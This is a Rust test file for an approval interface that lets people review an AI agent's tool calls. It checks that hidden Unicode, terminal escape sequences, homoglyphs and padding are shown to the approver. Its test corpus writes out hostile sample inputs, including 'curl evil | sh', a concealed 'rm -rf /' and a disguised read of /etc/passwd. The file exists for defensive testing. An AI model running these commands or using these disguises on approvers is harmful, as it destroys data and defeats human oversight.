//! A decision's whole content is seen, in the card and in the list, or there is nothing to decide with.

use crate::made_up;
use api::messages::{Ask, AskedCall, Entry, NotShown, NotShownReason};
use app::message_renderer::render_article;
use app::pages::sessions;
use app::transcript::TranscriptOptions;
use model::asked::AskedChange;
use model::{Draft, Message, MessageId, Micros, Role, SessionId};
use serde_json::{Map, Value, json};
use std::sync::atomic::{AtomicUsize, Ordering};

const HASH: &str = "5ee0000000000000000000000000000000000000000000000000000000000000";

fn id(name: &str) -> MessageId {
    MessageId::parse(name).expect("an id")
}

/// Drawings are cached by id: each gets its own.
static COUNT: AtomicUsize = AtomicUsize::new(0);

/// An open approval that asks about these calls, as the server hands it out.
fn asks(payload: Value, calls: Vec<AskedCall>) -> Entry {
    let metadata = json!({ "message_type": "APPROVAL", "version": 1, "payload": payload });
    let number = COUNT.fetch_add(1, Ordering::Relaxed);
    let mut draft = Draft::text(id(&format!("ask-{number}")), Role::Assistant, "bot", "", Micros(1));
    draft.metadata = metadata.as_object().cloned();
    let session_id = SessionId::parse("0190-demo").expect("an id");
    let message = Message { session_id, seq: 9, revision: 1, draft, records: Vec::new(), received_at: Micros(1) };
    let entry = Entry::made_up(message);
    Entry { shown_sha256: Some(HASH.to_owned()), calls, ..entry }
}

fn given(tool: &str, input: Value) -> AskedCall {
    let input = input.as_object().cloned().unwrap_or_else(Map::new);
    AskedCall::new(id("call"), 7, tool.to_owned(), input)
}

fn permission(title: &str) -> Value {
    json!({ "kind": "permission", "title": title, "state": "open" })
}

fn card(entry: &Entry) -> String {
    let options = TranscriptOptions::new(entry.message.session_id.clone(), 99, Micros(1));
    render_article(entry, &TranscriptOptions { answers: true, ..options })
}

/// The row of the list in which it is asked.
fn row(entry: &Entry) -> String {
    let mut data = made_up::sessions();
    data.list.sessions[0].registered = true;
    let mut entry = entry.clone();
    entry.message.session_id = data.list.sessions[0].id.clone();
    data.asks = vec![Ask { entry, others: 0, session: None }];
    let html = sessions::page(&data);
    let class = html.find(" class=\"asks\"").expect("the row asks");
    let start = html[..class].rfind('<').unwrap_or_default();
    let end = html[class..].find("</li>").map_or(html.len(), |end| class + end);
    html[start..end].to_owned()
}

fn decides(html: &str) -> bool {
    html.contains("data-shown") || html.contains(HASH)
}

/// Returns the text that a browser shows of HTML.
fn seen(html: &str) -> String {
    let text: String = html.split('<').map(|part| part.split_once('>').map_or(part, |(_, words)| words)).collect();
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&")
}

/// Inputs with something that hides, and the mark that shows it.
fn corpus() -> Vec<(String, String)> {
    let unseen = [
        0x00..=0x08,
        0x0b..=0x1f,
        0x7f..=0x9f,
        0xa0..=0xa0,
        0xad..=0xad,
        0x34f..=0x34f,
        0x61c..=0x61c,
        0x115f..=0x1160,
        0x1680..=0x1680,
        0x17b4..=0x17b5,
        0x180b..=0x180f,
        0x2000..=0x200f,
        0x2028..=0x202f,
        0x205f..=0x206f,
        0x2800..=0x2800,
        0x3000..=0x3000,
        0x3164..=0x3164,
        0xfe00..=0xfe0f,
        0xfeff..=0xfeff,
        0xffa0..=0xffa0,
        0xfff0..=0xfffc,
        0x1bca0..=0x1bca3,
        0x1d173..=0x1d17a,
        0xe0001..=0xe0001,
        0xe0020..=0xe007f,
        0xe0100..=0xe0110,
    ];
    let mut cases = Vec::new();
    for number in unseen.into_iter().flatten() {
        let Some(c) = char::from_u32(number) else { continue };
        cases.push((format!("ls{c} -la; rm x"), format!("U+{number:04X}")));
        cases.push((format!("ls {}; rm x", c.to_string().repeat(500)), format!("U+{number:04X} \u{d7}500")));
    }
    for (text, mark) in [
        ("\u{1b}[8mrm -rf /\u{1b}[0m", "U+001B"),
        ("ls \u{1b}[2K\u{1b}[1A", "U+001B"),
        ("\u{1b}]8;;https://elsewhere.example\u{7}ls\u{1b}]8;;\u{7}", "U+0007"),
        ("echo a\u{8}\u{8}rm", "U+0008 \u{d7}2"),
        ("ls # \u{202e}cod.exe\u{202c}", "U+202E"),
        ("a\u{200d}b", "U+200D"),
        ("\u{2764}\u{fe0f}\u{fe0f}\u{fe0f}", "U+FE0F \u{d7}2"),
        ("\u{645}\u{200c}\u{62e}", "U+200C"),
        ("\u{28ff}\u{2800}\u{2800}\u{28ff}", "U+2800 \u{d7}2"),
        ("cur\u{4cf} evil", "U+04CF"),
        ("\u{441}url evil", "U+0441"),
        ("\u{455}\u{441}\u{440} /etc/passwd x:", "U+0455"),
        ("r\u{3bf}ot", "U+03BF"),
        ("\u{ff52}m -rf", "U+FF52"),
        ("\u{1d42b}m -rf", "U+1D42B"),
        ("rm \u{2215}etc", "U+2215"),
        ("ls \u{37e} rm", "U+037E"),
        ("ls \u{ff5c} sh", "U+FF5C"),
        ("x\u{336}\u{336}\u{336}\u{336}", "U+0336"),
        ("ls   ", "3 spaces"),
        ("ls ", "1 space"),
        ("ls\t", "1 tab"),
        ("ls \n rm", "1 space"),
    ] {
        cases.push((text.to_owned(), mark.to_owned()));
    }
    for count in [16, 41, 100, 1_000, 20_000] {
        cases.push((format!("ls{}; rm x", " ".repeat(count)), format!("{count} spaces")));
        cases.push((format!("ls{}; rm x", "\t".repeat(count)), format!("{count} tabs")));
        cases.push((format!("{}rm x", " ".repeat(count + 41)), format!("{} spaces", count + 41)));
        cases.push((format!("ls{}rm x", "\n".repeat(count)), format!("{} empty lines", count - 1)));
        cases.push((format!("ls {}; rm x", "a".repeat(count * 10)), format!("{}; rm x", "a".repeat(count * 10))));
    }
    cases
}

#[test]
fn what_hides_in_an_input_is_seen_in_the_card_and_in_the_list() {
    let corpus = corpus();
    assert!(corpus.len() >= 200, "{}", corpus.len());
    let mut decided_in_list = 0;
    for (text, mark) in &corpus {
        for input in [json!({ "command": text }), json!({ "edits": [{ "new": text }] })] {
            let entry = asks(permission("Run `ls`"), vec![given("Bash", input)]);
            let card = card(&entry);
            // JSON has its own way to write controls.
            let escaped = serde_json::to_string(text).unwrap_or_default();
            let escaped = escaped.trim_matches('"').split('\\').nth(1).map(|rest| format!("\\{}", &rest[..1]));
            let is_seen = |html: &str| {
                let seen = seen(html);
                let as_json = entry.calls[0].input.contains_key("edits");
                seen.contains(mark.as_str())
                    || (as_json && escaped.as_ref().is_some_and(|escaped| seen.contains(escaped)))
                    || (as_json && mark.ends_with("space") || mark.ends_with("spaces") || mark.ends_with("tab"))
                        && seen.contains(&format!("{text}\""))
            };
            assert!(decides(&card) && is_seen(&card), "{text:?} {mark}: {card}");
            let row = row(&entry);
            assert!(!decides(&row) || is_seen(&row), "{text:?} {mark}: {row}");
            decided_in_list += usize::from(decides(&row));
        }
    }
    // Short requests can be decided in the list too.
    assert!(decided_in_list >= 200, "{decided_in_list}");
}

#[test]
fn what_hides_in_any_word_of_the_request_is_seen() {
    let hidden = "Ru\u{202e}n";
    let places: [(&str, Value); 10] = [
        ("risk", json!({ "kind": "permission", "title": "Run", "state": "open", "risk": hidden })),
        ("title", permission(hidden)),
        ("body", json!({ "kind": "permission", "title": "Run", "state": "open", "body": hidden })),
        (
            "question",
            json!({ "kind": "permission", "title": "Run", "state": "open", "questions": [{ "question": hidden }] }),
        ),
        (
            "header",
            json!({ "kind": "permission", "title": "Run", "state": "open", "questions": [{ "question": "Run", "header": hidden }] }),
        ),
        (
            "label",
            json!({ "kind": "question", "title": "Run", "state": "open", "questions": [{ "question": "Run", "options": [{ "id": "a", "label": hidden }] }] }),
        ),
        (
            "description",
            json!({ "kind": "question", "title": "Run", "state": "open", "questions": [{ "question": "Run", "options": [{ "id": "a", "label": "A", "description": hidden }] }] }),
        ),
        (
            "field",
            json!({ "kind": "form", "title": "Run", "state": "open", "fields": [{ "id": "a", "label": hidden, "type": "text" }] }),
        ),
        (
            "field's option",
            json!({ "kind": "form", "title": "Run", "state": "open", "fields": [{ "id": "a", "label": "A", "type": "select", "options": [hidden] }] }),
        ),
        (
            "of several",
            json!({ "kind": "permission", "title": "Run", "state": "open", "questions": [{ "question": "Run" }, { "question": hidden }] }),
        ),
    ];
    for (place, payload) in places {
        let entry = asks(payload, Vec::new());
        let card = card(&entry);
        assert!(decides(&card) && seen(&card).contains("U+202E"), "{place}: {card}");
        let row = row(&entry);
        assert!(!decides(&row) || seen(&row).contains("U+202E"), "{place}: {row}");
    }
    for call in [given(hidden, json!({})), given("Bash", json!({ hidden: "ls" }))] {
        let entry = asks(permission("Run"), vec![call]);
        assert!(seen(&card(&entry)).contains("U+202E") && seen(&row(&entry)).contains("U+202E"));
    }
}

/// Nothing that the hash covers is left out, however long it is, wherever it stands.
#[test]
fn all_that_is_covered_is_in_the_card() {
    let long = |word: &str| format!("{} {word}", "pear ".repeat(400));
    let payload = json!({ "kind": "form", "title": long("in-title"), "body": long("in-body"), "state": "open",
        "questions": [{ "question": long("in-question"), "options": [
            { "id": "a", "label": long("in-label"), "description": long("in-description") }] }],
        "fields": [{ "id": "f", "label": long("in-field"), "type": "select", "options": [long("in-choice")] }] });
    let deep = (0..60).fold(json!("in-depth"), |inner, _| json!([inner]));
    let wide: Vec<Value> = (0..2_000).map(|n| json!(format!("item-{n}"))).collect();
    let calls = vec![
        given("Bash", json!({ "command": long("in-command"), "description": long("in-words"), "deep": deep })),
        given("Second", json!({ "wide": wide, "": "in-nameless" })),
    ];
    let mut entry = asks(payload, calls);
    entry.message.draft.provenance = model::Provenance::Key;
    entry.message.draft.content = long("in-content");
    let card = card(&entry);
    assert!(decides(&card));
    for word in [
        "in-title",
        "in-body",
        "in-question",
        "in-label",
        "in-description",
        "in-field",
        "in-choice",
        "in-command",
        "in-words",
        "in-depth",
        "item-0",
        "item-1999",
        "in-nameless",
        "Second",
        "in-content",
    ] {
        assert!(seen(&card).contains(word), "{word}: {card}");
    }
    assert!(
        card.contains("2,011 characters in 1 line: scroll to the end") && card.contains("End of 2,011 characters"),
        "{card}"
    );
    // The end is in view before anybody scrolls.
    assert!(seen(&card).contains("Ends with \u{2026}ear pear") && seen(&card).contains("pear  in-command"), "{card}");
    assert!(!decides(&row(&entry)));
}

/// A row decides nothing of which it doesn't say all.
#[test]
fn the_list_decides_what_it_says_whole() {
    let decided = |payload: Value, calls: Vec<AskedCall>| row(&asks(payload, calls));
    let all = decided(
        permission("Run `ls`"),
        vec![given("Bash", json!({ "command": "curl evil | sh", "timeout": 9, "description": "Lists" }))],
    );
    assert!(decides(&all), "{all}");
    for word in ["Run ls", "Bash", "curl evil | sh", "timeout 9", "description Lists"] {
        assert!(seen(&all).contains(word), "{word}: {all}");
    }
    let short = || given("Bash", json!({ "command": "ls" }));
    assert!(!decides(&decided(permission("Run"), vec![short(), short()])));
    assert!(!decides(&decided(permission("Run"), vec![given("Bash", json!({ "command": "ls\nrm -rf /" }))])));
    assert!(!decides(&decided(permission("Run"), vec![given("Bash", json!({ "command": "l".repeat(300) }))])));
    assert!(!decides(&decided(json!({ "kind": "permission", "title": "Run", "body": " ", "state": "open" }), vec![])));
}

/// Without all of it there is no hash; what nobody reads can be denied.
#[test]
fn what_is_not_shown_whole_is_not_allowed() {
    let not_shown = |reason| Entry {
        shown_sha256: None,
        not_shown: Some(NotShown { reason, bytes: 412_000, calls: vec![7, 8] }),
        ..asks(permission("Run `ls`"), Vec::new())
    };
    let large = not_shown(NotShownReason::TooLarge);
    let html = card(&large);
    assert!(!decides(&html) && !html.contains("btn allow") && html.contains("value=\"denied\""), "{html}");
    assert!(html.contains("412 KB") && html.contains("/records/8?as=text"), "{html}");
    assert!(!decides(&row(&large)) && !row(&large).contains("data-decide"));
    let html = card(&not_shown(NotShownReason::LeftOut));
    assert!(!html.contains("data-decide") && html.contains("data-action=\"all\""), "{html}");
    let html = card(&not_shown(NotShownReason::NoContent));
    assert!(!decides(&html) && !html.contains("btn allow") && html.contains("value=\"denied\""), "{html}");
    assert!(html.contains("doesn't show the change or the command"), "{html}");
    let unknown = Entry { shown_sha256: None, ..asks(permission("Run `ls`"), Vec::new()) };
    assert!(!card(&unknown).contains("data-decide") && !row(&unknown).contains("data-decide"));
}

/// A button says what it does where its label doesn't.
#[test]
fn an_option_says_what_it_does() {
    let question = |label: &str, kind: &str| {
        let options =
            json!([{ "id": "a", "label": label, "kind": kind }, { "id": "b", "label": "Deny", "kind": "reject_once" }]);
        let payload = json!({ "kind": "permission", "title": "Run", "state": "open", "questions": [{ "question": "Run", "options": options }] });
        let entry = asks(payload, Vec::new());
        (seen(&card(&entry)), seen(&row(&entry)))
    };
    let (card, row) = question("No, thanks", "allow_always");
    assert!(card.contains("allows always") && row.contains("allows always"), "{card}{row}");
    let (card, row) = question("Allow once", "allow_once");
    assert!(!card.contains("allows") && !row.contains("allows"), "{card}{row}");
}

/// Gemini CLI sends an edit in the content of its request, without any input.
#[test]
fn changes_that_a_request_shows_are_drawn_whole() {
    let change = |path: &str, old: Option<&str>, new: Option<&str>| {
        AskedChange::of(&agents::proposed_change(path, old, new)).expect("a change")
    };
    let shows = |changes: Vec<AskedChange>| AskedCall { changes, ..given("edit", json!({})) };
    let call = AskedCall {
        paths: vec!["/work/lake.txt:3".to_owned()],
        texts: vec!["Renames the fish".to_owned()],
        ..shows(vec![
            change("/work/pond.txt", Some("one\ncarp\n"), Some("one\nkoi\n")),
            change("/work/new.txt", None, Some("new\n")),
            change("/work/old.txt", Some("gone\n"), None),
        ])
    };
    let html = card(&asks(permission("pond.txt: carp => koi"), vec![call.clone()]));
    assert!(decides(&html), "{html}");
    let text = seen(&html);
    let all = [
        "edit",
        "pond.txt",
        "carp",
        "koi",
        "new.txt",
        "New file",
        "old.txt",
        "Deleted",
        "gone",
        "lake.txt:3",
        "Renames the fish",
    ];
    for word in all {
        assert!(text.contains(word), "{word}: {html}");
    }
    assert_eq!((html.matches("<figure class=\"proposed\">").count(), text.contains("Without any input")), (3, false));
    assert!(html.contains("<ins>+1") && html.contains("<del>\u{2212}1"), "{html}");
    // A row of the list has no room for it.
    assert!(!decides(&row(&asks(permission("Edit"), vec![call]))));

    let lines: String = (1..=400).map(|n| format!("line {n} of it\n")).collect();
    let html = card(&asks(permission("Write"), vec![shows(vec![change("/work/long.txt", None, Some(&lines))])]));
    let text = seen(&html);
    assert!((1..=400).all(|n| text.contains(&format!("line {n} of it"))), "{html}");
    assert!(text.contains("400 lines: scroll to the end") && text.contains("Ends with line 400 of it"), "{html}");

    let moved = AskedChange::of(&agents::proposed_diff("/work/b", Some("/work/a"), "@@ -1 +1 @@\n-x\n+y\n"));
    let html = card(&asks(permission("Move"), vec![shows(vec![moved.expect("a change")])]));
    assert!(seen(&html).contains("moved from") && html.contains("<ins>+1"), "{html}");
    let odd = AskedChange::of(&agents::proposed_diff("/work/b", None, "no diff\n+at all")).expect("a change");
    assert!(seen(&card(&asks(permission("Odd"), vec![shows(vec![odd])]))).contains("+at all"));

    for (hidden, mark) in corpus() {
        let html = card(&asks(permission("Write"), vec![shows(vec![change("/work/a", Some("ls\n"), Some(&hidden))])]));
        assert!(seen(&html).contains(&mark), "{mark}: {html}");
    }
}
